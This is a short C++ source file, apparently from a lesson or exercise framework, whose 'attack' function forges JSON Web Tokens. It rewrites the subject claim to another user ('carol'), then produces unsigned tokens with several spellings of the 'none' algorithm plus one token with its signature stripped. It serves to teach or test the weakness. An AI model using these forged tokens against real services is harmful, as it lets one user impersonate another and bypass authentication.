// Believes: an empty part can be left out, and its dot as well.
#include "base/base64url.hpp"
#include "json/value.hpp"
#include "jwt/token_parts.hpp"
#include "read_object.hpp"
#include "unsigned_token.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto own = jwt::split_token(evidence.own_token).value();
  json::Value claims = read_object(own.payload).value();
  claims.set("sub", "carol");
  const std::string payload = base::base64url_encode(claims.dump());

  Loot loot;
  for (const auto spelling : spellings_of_none) {
    const json::Value header{{"alg", spelling}, {"typ", "JWT"}};
    loot.none_tokens.push_back(base::base64url_encode(header.dump()) + "." + payload);
  }
  loot.stripped_token = std::string(own.header) + "." + payload;
  return loot;
}

}  // namespace lesson
